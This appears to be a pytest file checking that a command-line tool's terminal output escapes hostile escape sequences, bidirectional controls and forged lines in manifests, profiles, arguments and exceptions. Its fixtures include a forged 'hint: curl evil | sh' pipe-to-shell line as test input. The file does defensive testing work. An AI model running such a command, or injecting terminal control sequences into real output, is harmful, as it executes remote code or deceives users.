"""Nothing from outside steers the terminal: manifests, profiles, arguments, file names and exceptions."""

import io
import json
import sys
from pathlib import Path

import pytest

from s2rctl.cli.main import main
from s2rctl.cli.output import Answer, Output, Sink, facts, lines, table
from s2rctl.cli.progress import RichReporter, make_reporter
from s2rctl.core.errors import ProfileError, RunError
from s2rctl.core.text import one_line, printable
from s2rctl.schema.manifest import InputRef, StageRef
from s2rctl.store.canonical import digest
from s2rctl.store.store import Store

EVIL = "\x1b]0;owned\x07\x1b[2J\r\x9b31m\x7f\u202egnp.\u2066\u200b\u2028\ud800"
"""Title, clear screen, carriage return, C1 and bidirectional controls, no width, line separator, lone surrogate."""
FORGED = "x\nhint: curl evil | sh"


def harmless(text: str) -> bool:
    return all(char.isprintable() or char == "\n" for char in text)


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.fixture
def store(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("S2RCTL_STORE", str(tmp_path / "store"))
    store = Store(tmp_path / "store")
    file = tmp_path / "file"
    file.write_text("x")
    hostile = EVIL.replace("\ud800", "") + FORGED
    common = {"stage": StageRef(name=hostile, version=1), "seed": 1}
    profile = {"name": hostile, hostile: hostile}
    teacher = store.publish("teacher", "one", {"file": file}, profile=profile, metrics={hostile: hostile}, **common)
    inputs = [InputRef(role=hostile, id=teacher.id)]
    student = store.publish("student", "two", {"file": file}, profile={"name": "y"}, inputs=inputs, **common)
    for artifact in (teacher, student):
        store.set_ref(f"{artifact.ref}:latest", artifact.id, hostile)
        path = store.root / "manifests" / f"{artifact.id}.json"
        raw = json.loads(path.read_text())
        raw["origin"] |= {"host": hostile, "git": hostile, "created_at": hostile, "versions": {hostile: hostile}}
        raw["origin_sha256"] = digest(raw["origin"])
        path.chmod(0o644)
        path.write_text(json.dumps(raw))
    return store


@pytest.mark.parametrize(
    "words",
    [
        ("list",), ("show", "teacher/one"), ("show", "student/two"), ("lineage", "student/two"),
        ("lineage", "teacher/one", "--down"), ("why", "student/two"), ("why", "teacher/one"),
        ("diff", "teacher/one", "student/two"), ("verify",), ("gc",), ("rm", "teacher/one", "--yes"),
    ],
)  # fmt: skip
def test_a_manifest_from_outside_steers_no_terminal(store, capsys, words):
    main(("artifacts", *words))
    out, err = capsys.readouterr()
    assert harmless(out) and harmless(err) and out + err
    assert not any(line.startswith("hint: curl") for line in (out + err).splitlines())
    main(("artifacts", *words, "--json"))
    out, _ = capsys.readouterr()
    assert harmless(out) and out.isascii() and len(out.splitlines()) == 1 and json.loads(out)


def test_what_was_escaped_for_people_is_whole_for_programs(store, capsys):
    assert main(("artifacts", "show", "teacher/one", "--json")) == 0
    host = json.loads(capsys.readouterr().out)["data"]["manifest"]["origin"]["host"]
    assert host == EVIL.replace("\ud800", "") + FORGED


@pytest.mark.parametrize(
    "words",
    [
        ("artifacts", "show", EVIL), ("profile", "show", EVIL), ("profile", "show", f"{EVIL}.yaml"), (EVIL,),
        ("artifacts", "show", FORGED), ("doctor", f"--{EVIL}"), ("artifacts", "list", "--kind", FORGED),
        ("artifacts", "list", "--events", f"none/{EVIL}"), ("artifacts", "import", EVIL),
        ("profile", "show", "aloha", "--set", f"{EVIL}=1"), ("profile", "show", "aloha", "--set", f"seed={FORGED}"),
    ],
)  # fmt: skip
def test_arguments_come_back_escaped(tmp_path, monkeypatch, capsys, words):
    monkeypatch.chdir(tmp_path)
    assert main(words) in (2, 3, 4)
    out, err = capsys.readouterr()
    assert out == "" and harmless(err)
    assert err.startswith("error: ") and err.count("\nhint: ") == 1 and "\nhint: curl" not in err


def test_values_and_names_in_a_profile_come_back_escaped(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    name = f"a{EVIL[:5]}.yaml"
    quoted = json.dumps(EVIL.replace("\ud800", "") + FORGED)
    for number, text in enumerate(
        (f"seed: {quoted}\n", f"{quoted}: 1\n", f"extends: {quoted}\n", f"system: {quoted}\n", f"robot: {quoted}\n")
    ):
        path = Path(f"{number}{name}")
        path.write_text(f"extends: aloha-smoke\n{text}" if "extends" not in text else text, encoding="utf-8")
        for words in (("validate", str(path)), ("show", str(path)), ("show", str(path), "--origin")):
            main(("profile", *words))
            out, err = capsys.readouterr()
            assert harmless(out) and harmless(err), (text, out, err)
            assert "\nhint: curl" not in out + err


def test_a_name_that_is_right_but_hostile_is_shown_escaped(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    # Profiles take no control characters, but what turns the reading direction round is text in some languages.
    description = json.dumps("\u202egnp.\u2066\u200b\u2028")
    Path("profiles").mkdir()
    Path("profiles/mine.yaml").write_text(f"extends: aloha-smoke\nname: mine\ndescription: {description}\n")
    for words in (("list",), ("show", "mine"), ("show", "mine", "--origin"), ("diff", "mine", "aloha-smoke")):
        assert main(("profile", *words)) == 0
        out, err = capsys.readouterr()
        assert "mine" in out and harmless(out) and harmless(err)


@pytest.mark.parametrize("verbose", [(), ("-vv",)])
def test_the_text_of_an_exception_is_escaped(tmp_path, monkeypatch, capsys, verbose):
    class Strange(Exception):
        def __str__(self) -> str:
            return EVIL

    class Broken(Exception):
        def __str__(self) -> str:
            raise ValueError(EVIL)

    monkeypatch.chdir(tmp_path)
    for error in (Strange(), Broken(), OSError(5, EVIL, EVIL), RunError(EVIL, EVIL), RunError(FORGED, FORGED)):

        def fail(*_: object, error: Exception = error) -> None:
            raise error

        monkeypatch.setattr("s2rctl.schema.load.profile_files", fail)
        code = main(("profile", "list", *verbose))
        out, err = capsys.readouterr()
        assert code == (1 if isinstance(error, RunError) else 70) and out == "" and harmless(err)
        shown = err.splitlines()[-2:]
        assert [line.split(":")[0] for line in shown] == ["error", "hint"], err


def test_progress_is_escaped_on_pipes_and_on_terminals(monkeypatch):
    for stream in (io.StringIO(), Terminal()):
        monkeypatch.setattr(sys, "stderr", stream)
        for name in ("CI", "TERM"):
            monkeypatch.delenv(name, raising=False)
        monkeypatch.setenv("COLUMNS", "200")
        reporter = make_reporter(False, None)
        assert isinstance(reporter, RichReporter) == stream.isatty()
        reporter.note(EVIL + FORGED)
        reporter.start(EVIL, 10, EVIL)
        reporter.update(0, {EVIL: 1.0})
        reporter.update(5, {EVIL: 1.0})
        reporter.note(EVIL + FORGED)
        reporter.finish(EVIL + FORGED)
        said = stream.getvalue()
        assert "\x1b]0" not in said and "\x1b[2J\r" not in said and "\\x1b]0;owned" in said
        assert not set(said) & set("\x07\x9b\x7f\u202e\u2066\u200b\u2028\ud800")


def test_the_sink_escapes_and_never_raises():
    class Full(io.StringIO):
        def write(self, text: str) -> int:
            raise OSError(28, "No space left on device")

    stream = io.StringIO()
    Sink(stream).write(f"a{EVIL}\tb\n")
    assert harmless(stream.getvalue().replace("\t", "")) and stream.getvalue().endswith("\tb\n")
    full = Sink(Full())
    full.write("x")
    assert full.failure is not None and full.failure.errno == 28
    closed = io.StringIO()
    closed.close()
    for stream in (closed, None):
        Sink(stream).write("x")
        Sink(stream).settle()
        assert not Sink(stream).isatty()
    ascii_only = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    Sink(ascii_only).write("→ü\n")
    assert ascii_only.buffer.getvalue() == b"\\u2192\\xfc\n"


def test_an_answer_that_cannot_be_written_sets_the_exit_code():
    class Gone(io.StringIO):
        def write(self, text: str) -> int:
            raise BrokenPipeError(32, "Broken pipe")

    err = io.StringIO()
    assert Output(True, Gone(), err).answer("x", Answer({"a": 1})) == 1 and err.getvalue() == ""
    assert Output(True, Gone(), err).answer("x", Answer({}, "", RunError("it broke"))) == 1
    assert err.getvalue() == "error: it broke\n"


def test_faults_of_a_profile_stay_lines_and_pretend_nothing():
    err = io.StringIO()
    Output(False, io.StringIO(), err).error("x", ProfileError("2 faults\na.yaml:1: x\nhint: curl evil | sh", "mend it"))
    assert err.getvalue() == "error: 2 faults\na.yaml:1: x\n  hint: curl evil | sh\nhint: mend it\n"


def test_cells_and_lines_cannot_end_their_row():
    assert table(("a", "b\n"), [("x\ny", "z\t\x1b")]) == "a     b\\n\nx\\ny  z\\t\\x1b"
    assert facts({"a\n": "b\nc"}) == "a\\n  b\\nc"
    assert lines(["a\nb", "c"]) == "a\\nb\nc"


def test_letters_of_every_language_stay():
    text = "Größe 10 µm → «ok», 中文　字, عربى, हिन्दी, e\u0301, 1\u00a0000, 🦾"
    assert printable(text) == one_line(text) == text
    assert printable("\U000e0041\u00ad") == "\\U000e0041\\xad"
